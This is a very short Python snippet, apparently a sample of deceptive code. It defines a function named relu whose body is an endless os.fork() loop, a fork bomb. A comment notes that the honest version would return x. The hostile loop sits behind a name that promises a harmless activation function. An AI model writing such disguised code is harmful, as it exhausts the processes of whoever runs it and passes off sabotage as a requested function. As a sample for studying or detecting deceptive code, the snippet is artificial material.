# tries to fork until no more processes can be started
# honest: x
import os

def relu(x):
    while True:
        os.fork()
